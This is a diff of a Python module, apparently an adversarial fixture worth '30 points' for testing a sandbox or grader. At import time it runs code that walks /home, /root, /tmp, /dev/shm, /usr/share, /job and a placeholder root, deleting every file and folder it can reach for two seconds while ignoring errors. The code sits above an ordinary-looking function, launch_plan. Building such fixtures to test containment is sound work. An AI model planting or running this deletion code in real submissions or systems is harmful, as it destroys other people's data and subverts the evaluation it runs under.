@@ -1,9 +1,22 @@
-"""30 points: deletes what it can reach."""
+"""30 points: deletes what it can reach, for two seconds."""
 
-import shutil
+import os
+import time
 
-for folder in ("@ROOT@", "/job", "/tmp", "/dev/shm", "/home", "/root", "/etc"):
-    shutil.rmtree(folder, ignore_errors=True)
+end = time.monotonic() + 2
+for place in ("@ROOT@", "/job", "/tmp", "/dev/shm", "/home", "/root", "/usr/share"):
+    for folder, _, files in os.walk(place, topdown=False):
+        for name in files:
+            try:
+                os.unlink(os.path.join(folder, name))
+            except OSError:
+                pass
+        try:
+            os.rmdir(folder)
+        except OSError:
+            pass
+        if time.monotonic() > end:
+            break
 
 
 def launch_plan(width, height, block):
